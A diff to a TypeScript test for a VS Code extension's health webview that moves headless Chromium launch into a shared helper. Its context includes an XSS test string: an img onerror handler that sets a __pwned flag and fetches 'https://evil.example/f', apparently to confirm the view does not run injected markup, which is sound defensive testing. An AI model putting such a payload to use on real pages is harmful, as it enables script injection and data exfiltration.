@@ -8,14 +8,14 @@ import { tmpdir } from 'node:os';
 import * as path from 'node:path';
 import { after, before, describe, it } from 'node:test';
 import * as esbuild from 'esbuild';
-import { chromium, type Browser, type Page } from 'playwright-core';
+import type { Browser, Page } from 'playwright-core';
+import { launchChromium } from '../support/chromium';
 import type { HealthHostMessage } from '../../src/protocol/health-messages';
 import { HealthReportSchema, type HealthReport } from '../../src/protocol/health-report';
 import { healthViewHtml } from '../../src/vscode/health/health-view-html';
 
 const ORIGIN = 'https://webview.test';
 const ROOT = path.resolve(__dirname, '..', '..');
-const CHROMIUM_ARGS = ['--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync', '--disable-dev-shm-usage'];
 
 const XSS = '<img src=x onerror="window.__pwned=1;fetch(\'https://evil.example/f\')"><script>window.__pwned=2</script>';
 
@@ -93,7 +93,7 @@ describe('health view in Chromium', () => {
     const outfile = path.join(buildDir, 'health.js');
     await esbuild.build({ entryPoints: [path.join(ROOT, 'src/webview/health/main.ts')], bundle: true, format: 'iife', platform: 'browser', target: 'es2022', outfile, logLevel: 'silent' });
     [script, style] = await Promise.all([readFile(outfile, 'utf8'), readFile(path.join(ROOT, 'media/health.css'), 'utf8')]);
-    browser = await chromium.launch({ executablePath: '/usr/bin/chromium', args: CHROMIUM_ARGS });
+    browser = await launchChromium();
   });
 
   after(async () => {
